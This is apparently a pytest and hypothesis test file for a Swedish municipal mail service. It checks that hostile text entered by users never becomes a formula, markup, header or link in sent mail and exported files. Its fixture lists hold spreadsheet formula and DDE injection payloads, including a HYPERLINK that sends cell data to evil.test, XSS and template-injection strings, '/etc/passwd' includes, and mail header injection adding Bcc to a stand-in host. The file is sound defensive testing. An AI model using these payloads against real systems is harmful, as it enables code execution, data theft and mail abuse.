"""Hostile words in all that people write, through a whole week: none becomes a header, a formula, markup or a link."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest
from builders import a_deployment
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from network_guard import watched
from outgoing_checks import faults_in_csv, faults_in_html, faults_in_mail, faults_in_workbook
from post import SERVICE
from register_mail import asked, edited
from world import GUARDS, MUNICIPALITY, ROUND, SCHOOL, World, a_renderer, workbook_of

from est_mailer.config.register_text import register_text
from est_mailer.demo.checklists import Event
from est_mailer.demo.spreadsheet import opened, saved
from est_mailer.domain.deployment import Step
from est_mailer.domain.outgoing import Purpose
from est_mailer.domain.period import period
from est_mailer.domain.publishing import Publication
from est_mailer.domain.rounds.life import RoundState
from est_mailer.jobs.dispatch.recording import registrar_record
from est_mailer.jobs.periods.exports import gis_files, statutory_files
from est_mailer.jobs.periods.packs import send_pack
from est_mailer.mail.writing.compose import Address, Attached, body_of, compose
from est_mailer.mail.writing.letters import Answer

HOLD = timedelta(minutes=15)
FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1;"Klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
]
MARKUP = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">här</a>',
    "javascript:alert(1) https://evil.test/hämta cid:logo@evil.test",
    "<mj-text>hej</mj-text><mj-include path='/etc/passwd' />",
    "{{ 7*7 }} {% include 'x' %} #image(\"/etc/passwd\") $x$ \\u{41}",
]
MAILISH = [
    "Hej\r\nBcc: alla@evil.test\r\n\r\n<b>ny del</b>",
    "=?utf-8?q?=0D=0ABcc:_alla@evil.test?=",
    "Subject: nytt\nTo: alla@evil.test",
    "--=_grans\r\nContent-Type: text/html\r\n\r\n<script>",
]
CHARACTERS = ["\u202egnp.exe\u2066 bakåt", "Ö" * 10_000, "\ufeff\u200b\u00ad\u2028rad", "😀" * 300]
RAW = ["\x00\x07\x1b[31m\x7fröd", "\r\n.\r\nQUIT\r\n", "\ud800ensam"]
WRITTEN = [*FORMULAS, *MARKUP, *MAILISH, *CHARACTERS]  # what a spreadsheet program can save in a cell
TYPED = [*WRITTEN, *RAW]

in_cells = st.sampled_from(WRITTEN) | st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), min_size=1, max_size=200
)


def sent_without_fault(world: World) -> None:
    """Every mail that has left. The registrar's has the coordinator's own file, which is the record."""
    completed = world.store.drafts.completed(ROUND)
    originals = [completed.workbook] if completed else []
    assert world.transport.sent
    for mail in world.transport.sent:
        assert faults_in_mail(mail.content, mail.recipient, originals) == [], mail.content[:3000].decode()


def as_words(content: bytes, **fields: str) -> bytes:
    """A workbook with more words in it, each as text beside its label: never a formula of the writer's own."""
    book = opened(content)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in fields.values():
                    cell.data_type = "s"
    return saved(book)


def encoded(text: str) -> str:
    """The text as one encoded word, which a mail program makes of whatever stands in its subject line."""
    return "=?utf-8?q?" + "".join(f"={byte:02X}" for byte in text.encode("utf-8", "replace")) + "?="


def a_week(said: list[str], name: str) -> World:
    """A week in which every free text is one of these, up to the feedback. ``name``: of the function that reports."""
    what, place, action, state, problem, comment, subject = said
    register = tuple(replace(m, name=name) if SCHOOL in m.addresses else m for m in a_deployment().register)
    world = World.invited(register=register, publication=Publication(hold=HOLD))
    world.service = replace(world.service, screener=lambda _text, _rules: ())  # no word is stopped for what it says
    form, spoken = world.form(SCHOOL), comment.encode("utf-8", "replace").decode()
    filename, content = world.filled(form, Event("Skadegörelse", "Norrby", place[:200], "2026-11-16", what, action))
    file = (filename, as_words(content, w=what, p=place[:200], a=action))
    raw = world.reply(form, spoken, file)
    world.deliver(raw.replace(b"Subject: ", f"Subject: {encoded(subject)}\r\nX-Other: ".encode(), 1))
    world.write(GUARDS, spoken)
    world.drafted().complete(state, problem=problem, new_measure=action, who_does=place[:200])
    if world.state is RoundState.PREVIEWED:
        world.approve()
        world.go_to(HOLD)
    return world.go_to(Step.FEEDBACK)


def test_the_words_do_arrive_and_as_words() -> None:
    world = a_week([FORMULAS[0], MARKUP[2], MAILISH[2], MARKUP[0], FORMULAS[1], MARKUP[1], MAILISH[0]], MARKUP[0])
    assert world.state is RoundState.FED_BACK
    dispatch = world.letter(GUARDS, Purpose.DISPATCH)
    assert MARKUP[0] in " ".join(dispatch.text.split())
    assert "&lt;script&gt;" in dispatch.html
    book = opened(workbook_of(world.draft())[1])
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(FORMULAS[0] in str(cell.value) for cell in cells)
    assert {cell.data_type for cell in cells if FORMULAS[0] in str(cell.value)} == {"s"}
    assert "f" not in {cell.data_type for cell in cells}
    sent_without_fault(world)


@settings(max_examples=4, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(said=st.lists(in_cells, min_size=7, max_size=7), name=st.sampled_from(WRITTEN))
def test_any_words_through_a_whole_week(said: list[str], name: str) -> None:
    with watched() as turned_to:
        world = a_week(said, name)
        send_pack(world.service, period("2026-Q4"), world.now)
        world.send()
        sent_without_fault(world)
        assert faults_in_files(world) == []
    assert turned_to == []


def faults_in_files(world: World) -> list[str]:
    """What is exported of the week: HTML, workbook, CSV, GeoJSON, the registrar's record."""
    wanted, faults = period("2026-Q4"), []
    files = statutory_files(world.service, wanted, world.now) | gis_files(world.service, wanted, world.now)
    if world.state in (RoundState.DISPATCHED, RoundState.FED_BACK):
        files |= registrar_record(world.service, world.round)
    for name, content in files.items():
        if name.endswith(".html"):
            faults += faults_in_html(content.decode())
        if name.endswith(".csv"):
            faults += faults_in_csv(content.decode(), ",")
        if name.endswith(".xlsx") and "lagesbild" not in name:
            faults += faults_in_workbook(content)
    return faults


@settings(max_examples=60, deadline=None)
@given(
    subject=st.sampled_from(TYPED) | st.text(max_size=300),
    display=st.sampled_from(TYPED) | st.text(max_size=100),
    filename=st.sampled_from(TYPED) | st.text(max_size=100),
    words=st.sampled_from(TYPED) | st.text(max_size=500),
    threaded=st.sampled_from(TYPED) | st.text(max_size=300),
)
def test_any_text_in_any_place_of_a_mail(subject: str, display: str, filename: str, words: str, threaded: str) -> None:
    letter = Answer(municipality=words[:100], heading=subject, paragraphs=(words,), items=(words, subject))
    content = compose(
        body_of(a_renderer().render_letter(letter, "sv"), "sv", [Attached(filename, "application/octet-stream", b"x")]),
        sender=Address(display, SERVICE),
        recipient=SCHOOL,
        message_id="<1@exempelstad.example>",
        date=World.of().now,
        in_reply_to=threaded,
        references=[threaded, f"<a@b.test>{threaded}<c@d.test>"],
    )
    assert faults_in_mail(content, SCHOOL) == []


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_a_spreadsheet_would_run_is_asked_about(name: str) -> None:
    world = World.invited()
    letter = asked(world)
    new = {"Funktion": "Badhuset", "Roller": "rapporterar", "Adresser": "bad@exempelstad.example"}
    filename, content = edited(letter, new=new)
    book = opened(content)
    cell = next(c for row in book.worksheets[0].iter_rows() for c in row if c.value == "Badhuset")
    cell.value = name
    cell.data_type = "s"
    world.answer(letter, "", (filename, saved(book)))
    assert "börjar med ett tecken" in " ".join(world.letters(MUNICIPALITY)[-1].text.split())
    assert faults_in_csv(register_text(world.service.register, world.service.deployment), ";") == []
    sent_without_fault(world)
